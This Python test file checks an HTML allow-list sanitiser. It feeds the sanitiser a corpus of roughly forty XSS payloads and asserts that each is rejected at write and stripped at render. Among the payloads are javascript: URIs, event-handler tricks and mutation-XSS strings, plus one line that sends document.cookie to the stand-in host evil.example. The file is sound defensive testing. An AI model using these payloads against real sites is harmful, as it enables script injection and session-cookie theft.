"""Allow-list HTML (theme.fm.2.11): XSS corpus rejected at write, cleaned at render."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mitigate.errors import ConfigError
from mitigate.guard.errors import HtmlRejectedError
from mitigate.guard.html import DEFAULT_HTML_POLICY, HtmlPolicy, sanitize, sanitize_for_write
from mitigate.observe.events import HtmlRejected
from mitigate.observe.observers import Recorder

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<form action="https://evil.example"><input name=p></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    "<div><!--<img src=x onerror=alert(1)>--></div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p>ok</p><xmp><img src=x onerror=alert(1)></xmp>",
    "<a href=x rel=opener>x</a>",
    '<img src="x" alt="`" onerror="alert(1)">',
    "<p>a\x00<script>alert(1)</script></p>",
    "<!DOCTYPE html><p>x</p>",
    '<?xml version="1.0"?><p>x</p>',
    "<p><![CDATA[<img src=x onerror=alert(1)>]]></p>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onmouseover=alert(1)>hover</p>",
]

BENIGN = [
    "<p>Hello <strong>world</strong> &amp; friends &lt;3</p>",
    "<h2>Title</h2><ul><li>one</li><li>two</li></ul>",
    '<ol start="3"><li>three</li></ol>',
    '<table><tr><th scope="col">A</th></tr><tr><td colspan="2">1</td></tr></table>',
    '<a href="/relative/path">rel</a> <a href="https://example.com/?q=1&amp;r=2">abs</a>',
    '<a href="mailto:team@example.com">mail</a>',
    '<img src="https://cdn.example/i.png" alt="logo" width="10" height="10">',
    '<blockquote cite="https://example.com">quote</blockquote>',
    "<p>line<br>break<br/>again</p>",
    "<details open><summary>More</summary><p>text</p></details>",
    "<pre><code>if (a &lt; b) { return; }</code></pre>",
    "caf\u00e9 \u2014 na\u00efve \u00a0 text",
    '<p lang="fr" dir="ltr" title="t">Bonjour</p>',
    "<ul><li>a<li>b</ul>",
    "<p>unclosed <em>emphasis",
]


@pytest.mark.parametrize("html", XSS)
def test_xss_is_rejected_at_write_with_the_offending_parts(html: str) -> None:
    with pytest.raises(HtmlRejectedError) as info:
        sanitize_for_write(html, field="block.body")
    assert info.value.code == "MITIGATE.HTML.UNSAFE"
    assert info.value.offending
    assert str(info.value).startswith("[MITIGATE.HTML.UNSAFE] block.body: not allowed: ")


@pytest.mark.parametrize("html", XSS)
def test_render_path_removes_every_active_part(html: str) -> None:
    clean = sanitize(html).lower()
    for needle in (
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "vbscript:",
        "data:",
        "<svg",
        "<math",
        "<iframe",
        "<style",
        "<object",
        "<embed",
        "<form",
        "style=",
        "srcdoc",
        "<base",
        "<meta",
        "<link",
        "ontoggle",
        "onmouseover",
    ):
        assert needle not in clean, (html, clean)


@pytest.mark.parametrize("html", BENIGN)
def test_benign_markup_is_stored_as_is(html: str) -> None:
    stored = sanitize_for_write(html)
    assert stored == sanitize(html)
    assert sanitize_for_write(stored) == stored  # idempotent


def test_offending_parts_are_named() -> None:
    with pytest.raises(HtmlRejectedError) as info:
        sanitize_for_write('<p onclick="x()">a<a href="javascript:y()">b</a><svg></svg></p>')
    assert info.value.offending == (
        "<p onclick>",
        "<a href='javascript:y()'>",
        "<svg>",
    )


def test_structural_rewrites_are_reported_too() -> None:
    with pytest.raises(HtmlRejectedError) as info:
        sanitize_for_write("<p><div>block in paragraph</div></p>")
    assert info.value.offending[0].startswith("markup the sanitiser rewrites")


def test_rejection_emits_an_event() -> None:
    recorder = Recorder()
    with pytest.raises(HtmlRejectedError):
        sanitize_for_write(
            "<img src=x onerror=alert(1)>", field="theme.block", observers=[recorder]
        )
    [event] = recorder.of(HtmlRejected)
    assert event.field == "theme.block" and event.offending == ("<img onerror>",)


def test_a_row_inserted_behind_the_write_path_is_cleaned_at_render() -> None:
    stored = '<p>hi</p><img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">'
    assert sanitize(stored) == '<p>hi</p><img src="x">'


@pytest.mark.parametrize("tag", ["svg", "math", "script", "iframe", "style", "form"])
def test_policies_can_never_allow_dangerous_tags(tag: str) -> None:
    with pytest.raises(ConfigError):
        HtmlPolicy(tags=DEFAULT_HTML_POLICY.tags | {tag})


@pytest.mark.parametrize("attr", ["onclick", "style", "srcdoc", "ONLOAD"])
def test_policies_can_never_allow_dangerous_attributes(attr: str) -> None:
    with pytest.raises(ConfigError):
        HtmlPolicy(attributes={"p": frozenset({attr})})


def test_a_narrower_policy() -> None:
    policy = HtmlPolicy(tags=frozenset({"p", "b"}), attributes={})
    assert policy.sanitize("<p><i>x</i></p>") == "<p>x</p>"
    with pytest.raises(HtmlRejectedError):
        policy.sanitize_for_write("<p><i>x</i></p>")


_fragments = st.lists(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<a href='https://e.x'>",
            "<a href='javascript:x'>",
            "</a>",
            "<img src=x onerror=y>",
            "<script>",
            "</script>",
            "<svg>",
            "<table>",
            "<tr>",
            "<td>",
            "<!--",
            "-->",
            "&amp;",
            "&lt;",
            "<",
            ">",
            '"',
            "'",
            "text",
            " ",
            "\n",
            "<br/>",
            "<ul>",
            "<li>",
            "<div>",
            "<math>",
            "<style>",
            "<noscript>",
            "<template>",
        ]
    )
    | st.text(max_size=5),
    max_size=25,
).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_fragments)
def test_write_refuses_or_stores_exactly_the_clean_form(html: str) -> None:
    clean = sanitize(html)
    lowered = clean.lower()
    for needle in ("<script", "onerror", "<svg", "<math", "javascript:", "<style", "<!--"):
        assert needle not in lowered
    try:
        stored = sanitize_for_write(html)
    except HtmlRejectedError as exc:
        assert exc.offending
        return
    assert stored == clean


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_fragments)
def test_clean_output_of_well_formed_input_is_accepted_at_write(html: str) -> None:
    clean = sanitize(html)
    if sanitize(clean) != clean:
        return  # html5ever re-parents odd fragments again; the write path will say so
    assert sanitize_for_write(clean) == clean
